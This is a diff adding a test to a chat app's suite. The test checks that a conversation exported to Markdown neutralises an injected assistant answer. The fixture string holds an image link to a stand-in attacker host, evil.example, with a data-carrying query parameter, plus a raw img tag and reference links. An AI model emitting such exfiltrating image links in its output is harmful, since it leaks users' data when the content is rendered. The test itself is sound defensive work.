@@ -73,6 +73,28 @@ async def test_a_request_typed_with_control_characters_still_exports_to_docx(cha
     assert "Réponse nette [1]" in texts
 
 
+async def test_an_injected_answer_exports_to_markdown_with_nothing_live(chat_api, as_user, converse):
+    headers = as_user(CLAIRE)
+    injected = (
+        "Voir ![logo](https://evil.example/p.png?d=NIR) <img src=https://evil.example/x> "
+        "[ici](https://evil.example/a) **gras** [1]\n[ref]: https://evil.example/r"
+    )
+    thread, _ = await converse(headers, ("Question <b>", injected))
+
+    response = await chat_api.get(
+        f"/api/threads/{thread}/export", params={"format": "markdown"}, headers=headers
+    )
+
+    text = response.text
+    assert "![" not in text  # an image would be loaded when the file is opened
+    assert "<img" not in text
+    assert "<b>" not in text
+    assert "](https://evil.example" not in text
+    assert "\n[ref]:" not in text
+    # What was said stays readable: the image's description, the link's label and address, the Markdown.
+    assert "Voir logo &lt;img src=https://evil.example/x> ici (https://evil.example/a) **gras** [1]" in text
+
+
 async def test_another_users_conversation_cannot_be_exported_and_unknown_formats_are_refused(
     chat_api, as_user, converse
 ):
